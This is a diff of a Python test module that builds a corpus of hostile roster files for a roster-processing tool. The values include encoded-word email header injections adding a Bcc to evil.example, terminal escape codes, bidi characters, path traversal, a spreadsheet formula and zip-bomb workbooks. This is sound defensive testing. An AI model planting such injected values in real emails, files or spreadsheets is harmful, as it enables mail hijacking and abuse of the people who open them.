@@ -78,3 +78,54 @@ def rubric_corpus(folder: Path) -> dict[str, Path]:
         files[f"raw-{number:02d}.toml"] = folder / f"raw-{number:02d}.toml"
         files[f"raw-{number:02d}.toml"].write_text(text, encoding="utf-8")
     return files
+
+
+INJECTED_NAME = "=?utf-8?b?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?="
+INJECTED_ADDRESS = "=?utf-8?q?=0D=0ABcc=3A_e=40evil.example?=@x.cn"
+ROSTER_ROWS: dict[str, list[list[object]]] = {
+    "encoded-word-name.csv": [["服务明星", INJECTED_NAME, "", "某单位", "", "a@example.com"]],
+    "encoded-word-q.csv": [["服务明星", "=?utf-8?q?=0D=0AX-Injected:_1?=", "", "某单位", "", "b@example.com"]],
+    "encoded-word-address.csv": [["服务明星", "张三", "", "某单位", "", INJECTED_ADDRESS]],
+    "terminal-escape.csv": [["服务明星", "吴\x1b]0;pwned\x07九", "", "某\x1b[2J单位", "", "wu@example.com"]],
+    "bidi-and-zero-width.csv": [["服务明星", "\u202e张三\u200b", "", "某单位", "", "c@example.com"]],
+    "path-escape.csv": [
+        ["服务明星", "../../逃逸", "", "C:\\Windows", "", "d@example.com"],
+        ["服务明星", "CON", "", "", "", "d2@example.com"],
+    ],
+    "formula-like.csv": [["服务明星", '=HYPERLINK("http://x")', "", "+1", "@岗位", "e@example.com"]],
+    "unknown-rubric.csv": [["火星表", "王五", "", "", "", "f@example.com"]],
+    "no-name.csv": [["服务明星", "", "", "某单位", "", "g@example.com"]],
+}
+ROSTERS_ACCEPTED = {"path-escape.csv": 2, "formula-like.csv": 1, "stale-dimension.xlsx": 3}
+"""Hostile-looking rosters that are really good ones (values are made safe, not refused): how many forms each gives."""
+
+
+def roster_corpus(folder: Path, base_xlsx: Path) -> dict[str, Path]:
+    """Every hostile roster of the corpus in ``folder``: CSV files with hostile values, and broken .xlsx files.
+
+    ``base_xlsx`` is a good roster written by openpyxl, the starting point of the damaged workbooks.
+    """
+    from tests import hostile_rosters as damaged
+    from tests.roster_support import GOOD_ROWS, write_csv
+
+    folder.mkdir(parents=True, exist_ok=True)
+    files = {name: write_csv(folder / name, rows) for name, rows in ROSTER_ROWS.items()}  # type: ignore[arg-type]
+    unbalanced = write_csv(folder / "unbalanced-quote.csv", GOOD_ROWS)
+    unbalanced.write_bytes(
+        unbalanced.read_bytes().replace(b"\xe5\xbc\xa0\xe4\xbc\x9f", b'"\xe5\xbc\xa0\xe4\xbc\x9f', 1)
+    )
+    files["unbalanced-quote.csv"] = unbalanced
+    files["empty.csv"] = folder / "empty.csv"
+    files["empty.csv"].write_bytes(b"")
+    files["not-a-zip.xlsx"] = folder / "not-a-zip.xlsx"
+    files["not-a-zip.xlsx"].write_bytes("这不是工作簿".encode())
+    files["bomb.xlsx"] = damaged.bomb_xlsx(folder / "bomb.xlsx", base_xlsx, 512 * 1024 * 1024)
+    files["zeros.xlsx"] = damaged.zeros_xlsx(folder / "zeros.xlsx", base_xlsx, 64 * 1024 * 1024)
+    stale = folder / "stale-dimension.xlsx"
+    stale.write_bytes(base_xlsx.read_bytes())
+    files["stale-dimension.xlsx"] = damaged.stale_dimension(stale, "A1:F2")
+    files["second-sheet.xlsx"] = damaged.workbook(
+        folder / "second-sheet.xlsx",
+        {"一组": damaged.roster_rows(GOOD_ROWS[0]), "二组": damaged.roster_rows(GOOD_ROWS[1]), "说明": [["备注"]]},
+    )
+    return files
